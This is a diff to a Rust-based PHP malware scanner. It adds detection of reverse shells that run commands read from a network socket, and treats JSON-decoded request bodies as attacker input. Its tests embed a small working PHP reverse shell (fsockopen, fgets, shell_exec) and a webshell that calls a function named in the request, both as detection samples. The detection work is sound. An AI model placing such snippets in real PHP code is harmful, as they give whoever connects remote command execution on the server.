@@ -642,6 +642,7 @@ fn php_reverse_shell(t: &str, hits: &mut Vec<Hit>) {
         return;
     };
     let Some(process) = PROCESSES.iter().find(|c| contains_call(t, c)) else {
+        socket_commands(t, socket, hits);
         return;
     };
     let Some((at, shell)) = SHELLS.iter().find_map(|s| t.find(s).map(|p| (p, s))) else {
@@ -654,6 +655,55 @@ fn php_reverse_shell(t: &str, hits: &mut Vec<Hit>) {
         format!("the script opens a socket (`{socket}…)`), starts a process with pipes (`{process}…)`) and names `{shell}`: a remote shell for whoever is at the other end"),
         at,
     ));
+}
+
+/// `$c = trim(fgets($sock)); … shell_exec($c)`: a script that opened a socket runs what it
+/// reads from it. Clients read replies from sockets; they do not run them.
+fn socket_commands(t: &str, socket: &str, hits: &mut Vec<Hit>) {
+    const READS: &[&str] = &["fgets(", "fread(", "socket_read(", "stream_get_line("];
+    let mut read: Vec<&str> = Vec::new();
+    for (n, s) in t.split_inclusive([';', '\n', '{', '}']).enumerate() {
+        if n >= 100_000 || read.len() >= 16 {
+            break;
+        }
+        let Some((var, rhs)) = assigned_variable(s) else {
+            continue;
+        };
+        let mut rhs = bare_php_value(rhs);
+        while let Some(inner) = ["trim(", "rtrim(", "chop("]
+            .iter()
+            .find_map(|w| rhs.strip_prefix(w))
+        {
+            rhs = bare_php_value(inner);
+        }
+        if READS.iter().any(|r| rhs.starts_with(r)) {
+            read.push(var);
+        }
+    }
+    for sink in PHP_EXEC {
+        for at in find_all(t, sink).take(200) {
+            if t[..at].ends_with(|c: char| {
+                c.is_ascii_alphanumeric() || matches!(c, '_' | '>' | ':' | '$')
+            }) {
+                continue;
+            }
+            let arg = bare_php_value(&t[at + sink.len()..]);
+            let Some(var) = read.iter().find(|v| {
+                arg.strip_prefix(**v)
+                    .is_some_and(|r| r.trim_start().starts_with([')', '.', ' ']))
+            }) else {
+                continue;
+            };
+            hits.push(hit(
+                "scan.heuristic.php_reverse_shell",
+                Severity::High,
+                "Commands read from a network socket and run",
+                format!("the script opens a socket (`{socket}…)`), reads `{var}` from it and gives it to `{sink}…)`: whoever is at the other end runs commands here"),
+                at,
+            ));
+            return;
+        }
+    }
 }
 
 /// Full-featured webshells ("大马") read request input and bundle command execution, file
@@ -774,7 +824,20 @@ pub(crate) fn bare_php_value(mut v: &str) -> &str {
 /// `$x = $_POST;`, `$c = @$_GET['c'];`, `$p = base64_decode($_COOKIE['p']);`.
 fn from_input(s: &str) -> bool {
     let Some(eq) = s.find('=') else { return false };
-    let rhs = bare_php_value(&s[eq + 1..]);
+    let mut rhs = bare_php_value(&s[eq + 1..]);
+    // `json_decode(file_get_contents('php://input'), true)`: parsing hands the request back.
+    while let Some(inner) = [
+        "json_decode(",
+        "unserialize(",
+        "trim(",
+        "stripslashes(",
+        "urldecode(",
+    ]
+    .iter()
+    .find_map(|w| rhs.strip_prefix(w))
+    {
+        rhs = bare_php_value(inner);
+    }
     let direct = [
         "$_get",
         "$_post",
@@ -1379,6 +1442,27 @@ mod tests {
             .iter()
             .map(|h| h.check)
             .collect()
+    }
+
+    #[test]
+    fn commands_read_from_a_socket_and_run() {
+        let page = "<?php\n$sockfd = fsockopen($ip , $port , $errno, $errstr );\nwhile(!feof($sockfd)) {\n$command = trim(fgets($sockfd, $len));\nfputs($sockfd , \"\\n\" . shell_exec($command) . \"\\n\");\n}";
+        assert_eq!(
+            ids(ScriptKind::Php, page),
+            ["scan.heuristic.php_reverse_shell"]
+        );
+        // A mail client reads the server's replies and runs nothing.
+        let smtp = "<?php\n$s = fsockopen('mail', 25);\n$reply = trim(fgets($s, 512));\nif (substr($reply, 0, 3) != '220') { exec('logger smtp'); }";
+        assert!(ids(ScriptKind::Php, smtp).is_empty());
+    }
+
+    #[test]
+    fn a_request_body_parsed_as_json_is_request_input() {
+        let page = "<?php\n$post = json_decode(file_get_contents('php://input'), true);\nif (function_exists($post['cmd'])) {\n    $post['cmd']($cwd, $post['args']);\n}";
+        assert_eq!(
+            ids(ScriptKind::Php, page),
+            ["scan.heuristic.request_function"]
+        );
     }
 
     #[test]
